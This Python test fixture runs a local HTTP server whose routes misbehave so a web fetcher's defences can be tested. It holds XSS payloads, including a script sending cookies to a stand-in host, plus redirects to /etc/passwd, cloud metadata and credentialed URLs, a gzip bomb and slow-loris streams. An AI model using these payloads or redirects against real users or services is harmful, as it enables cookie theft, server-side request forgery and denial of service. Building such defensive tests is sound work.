"""A publisher's web server gone bad: a real HTTP server on 127.0.0.1 whose paths each misbehave in one way.

Written on the raw socket (http.server's request parsing, our own answers), so that it can lie about
lengths, trickle bytes, stream without end and redirect anywhere.
"""

from __future__ import annotations

import gzip
import threading
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = (
    b"<!doctype html><html lang='en'><head><meta charset='utf-8'><title>Harbour ferry returns | Coast News</title>"
    b"</head><body><nav><a href='/'>Home</a></nav><article><h1>Harbour ferry returns</h1>"
    b"<p>The harbour ferry will run again from Monday after a year of repairs to its engines and the pier.</p>"
    b"<p>Tickets cost the same as before, and the first boat leaves at seven in the morning every weekday.</p>"
    b"</article></body></html>"
)
SCRIPTED_PAGE = (
    b"<!doctype html><html lang='en'><head><meta charset='utf-8'>"
    b"<title>Tram <script>alert('title')</script> line opens</title>"
    b"<script>document.location='https://evil.example/'+document.cookie</script></head>"
    b"<body onload=\"alert('body')\"><article><h1>Tram line <img src=x onerror=\"alert('img')\"> opens</h1>"
    b"<p onclick=\"alert('p')\">The new tram line opens on Saturday with stops at the station and the hospital.</p>"
    b"<script>alert('inline')</script><style>p{background:url(javascript:alert('css'))}</style>"
    b"<p>Riders can pay &lt;script&gt;alert('escaped')&lt;/script&gt; with a card on board every day.</p>"
    b"</article></body></html>"
)
INVALID_UTF8_PAGE = PAGE.replace(b"every weekday", b"every weekday \xff\xfe\xc3\x28")
GZIP_BOMB = gzip.compress(b"\0" * (64 * 1024 * 1024), compresslevel=9)
"""64 MiB of zeros in about 64 KiB: a fetcher that decoded Content-Encoding would blow up."""
TRICKLE_SECONDS = 0.2
"""A slow-loris server sends one byte this often: always within any per-read timeout."""

Handler = Callable[["_Request"], None]


class _Request(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: "_Server"

    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        self.server.hostile.requests.append(self.path)
        route = self.server.hostile.routes.get(self.path.split("?")[0])
        try:
            if route is None:
                self.answer(404, b"not here", "text/plain")
            else:
                route(self)
        except (BrokenPipeError, ConnectionResetError):
            pass  # the client gave up, as it should

    def answer(self, status: int, body: bytes, content_type: str, **headers: str) -> None:
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", headers.pop("length", str(len(body))))
        self.send_header("Connection", "close")
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        self.wfile.write(body)
        self.wfile.flush()

    def redirect(self, location: str) -> None:
        self.answer(302, b"", "text/plain", Location=location)

    def log_message(self, format: str, *args: object) -> None:
        pass


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    hostile: "HostileServer"


class HostileServer:
    """Paths and what they do; ``url(path)`` is the address to give the fetcher."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        self.stop = threading.Event()
        self.httpd = _Server(("127.0.0.1", 0), _Request)
        self.httpd.hostile = self
        self.port = self.httpd.server_address[1]
        self.routes: dict[str, Handler] = {
            "/article.html": lambda r: r.answer(200, PAGE, "text/html; charset=utf-8"),
            "/scripted.html": lambda r: r.answer(200, SCRIPTED_PAGE, "text/html; charset=utf-8"),
            "/invalid-utf8.html": lambda r: r.answer(200, INVALID_UTF8_PAGE, "text/html; charset=utf-8"),
            "/empty": lambda r: r.answer(200, b"", "text/html"),
            "/gone": lambda r: r.answer(404, b"<h1>Not Found</h1>", "text/html"),
            "/report.pdf": lambda r: r.answer(200, b"%PDF-1.7\n" + bytes(range(256)) * 8, "application/pdf"),
            "/image": lambda r: r.answer(200, b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 64, "binary/octet-stream"),
            "/loop-a": lambda r: r.redirect("/loop-b"),
            "/loop-b": lambda r: r.redirect("/loop-a"),
            "/to-file": lambda r: r.redirect("file:///etc/passwd"),
            "/to-ipv6-loopback": lambda r: r.redirect(f"http://[::1]:{self.port}/article.html"),
            "/to-metadata": lambda r: r.redirect("http://169.254.169.254/latest/meta-data/"),
            "/to-localhost-name": lambda r: r.redirect(f"http://localhost:{self.port}/article.html"),
            "/to-credentials": lambda r: r.redirect(f"http://admin:hunter2@127.0.0.1:{self.port}/article.html"),
            "/gigabyte": lambda r: r.answer(200, b"", "text/html", length=str(1024**3)),
            "/gigabyte-streamed": self._endless_close_delimited,
            "/chunked-forever": self._endless_chunked,
            "/short-body": lambda r: r.answer(200, PAGE[:300], "text/html", length=str(len(PAGE))),
            "/huge-length-short-body": lambda r: r.answer(200, PAGE, "text/html", length=str(10**15)),
            "/slow-body": self._slow_body,
            "/slow-headers": self._slow_headers,
            "/gzip-bomb": lambda r: r.answer(200, GZIP_BOMB, "text/html", Content_Encoding="gzip"),
        }
        self.thread = threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        self.thread.start()

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.port}{path}"

    def close(self) -> None:
        self.stop.set()
        self.httpd.shutdown()
        self.httpd.server_close()

    # -- bodies without end ---------------------------------------------------------------------

    def _endless_close_delimited(self, request: _Request) -> None:
        """A gigabyte with no Content-Length, sent as fast as the client reads."""
        request.send_response(200)
        request.send_header("Content-Type", "text/html")
        request.send_header("Connection", "close")
        request.end_headers()
        block = b"<p>" + b"word " * 13000 + b"</p>\n"
        sent = 0
        while sent < 1024**3 and not self.stop.is_set():
            request.wfile.write(block)
            sent += len(block)

    def _endless_chunked(self, request: _Request) -> None:
        request.send_response(200)
        request.send_header("Content-Type", "text/html")
        request.send_header("Transfer-Encoding", "chunked")
        request.end_headers()
        chunk = b"<p>" + b"more " * 2000 + b"</p>"
        while not self.stop.is_set():
            request.wfile.write(b"%x\r\n%s\r\n" % (len(chunk), chunk))

    def _slow_body(self, request: _Request) -> None:
        request.send_response(200)
        request.send_header("Content-Type", "text/html")
        request.send_header("Content-Length", str(len(PAGE)))
        request.end_headers()
        request.wfile.flush()
        for byte in PAGE:
            if self.stop.wait(TRICKLE_SECONDS):
                return
            request.wfile.write(bytes([byte]))
            request.wfile.flush()

    def _slow_headers(self, request: _Request) -> None:
        request.wfile.write(b"HTTP/1.1 200 OK\r\n")
        for byte in b"X-Padding: " + b"a" * 10000:
            if self.stop.wait(TRICKLE_SECONDS):
                return
            request.wfile.write(bytes([byte]))
            request.wfile.flush()

